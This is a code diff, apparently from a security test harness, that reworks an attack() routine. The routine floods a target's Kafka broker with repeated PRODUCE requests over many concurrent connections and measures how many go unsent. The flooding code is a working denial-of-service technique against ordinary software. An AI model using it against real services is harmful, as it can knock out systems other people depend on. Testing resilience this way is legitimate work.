@@ -38,6 +38,13 @@ def _produce(number: int, partitions: list[tuple[int, bytes | None]]) -> bytes:
     return request(PRODUCE, 7, b"".join(body), correlation_id=number)
 
 
+async def _flood(connection: asyncio.StreamWriter, frame: bytes, sent: list[int], number: int) -> None:
+    for _ in range(REQUESTS):
+        connection.write(frame)
+        await connection.drain()  # all at once would stop this process, and with it what measures the stall
+        sent[number] += 1
+
+
 async def attack(target: AttackedAgent) -> str:
     """One kind after the other, each on other connections."""
     await ask(*target.kafka, request(METADATA, 1, struct.pack(">i", 1) + text(_TOPIC)))
@@ -45,11 +52,14 @@ async def attack(target: AttackedAgent) -> str:
     kinds = {"small": small(1), "wide": wide(1, 0), "of unknown partitions": wide(1, 5_000)}
     for name, frame in kinds.items():
         opened = [await asyncio.open_connection(*target.kafka, limit=1) for _ in range(CONNECTIONS)]
-        for _, writer in opened:
-            writer.write(frame * REQUESTS)
-        await asyncio.sleep(_HOLD_SECONDS)
-        left = sum(writer.transport.get_write_buffer_size() for _, writer in opened)
-        lines.append(f"{name}: {left / len(frame) / CONNECTIONS:.0f} of {REQUESTS} each were not sent yet")
+        sent = [0] * CONNECTIONS
+        floods = [asyncio.create_task(_flood(writer, frame, sent, number)) for number, (_, writer) in enumerate(opened)]
+        await asyncio.wait(floods, timeout=_HOLD_SECONDS)
+        await asyncio.sleep(_HOLD_SECONDS / 2)
+        for flood in floods:
+            flood.cancel()
+        await asyncio.gather(*floods, return_exceptions=True)
+        lines.append(f"{name}: {REQUESTS - sum(sent) / CONNECTIONS:.0f} of {REQUESTS} each were not sent yet")
         for _, writer in opened:
             writer.transport.abort()
     return "; ".join(lines)
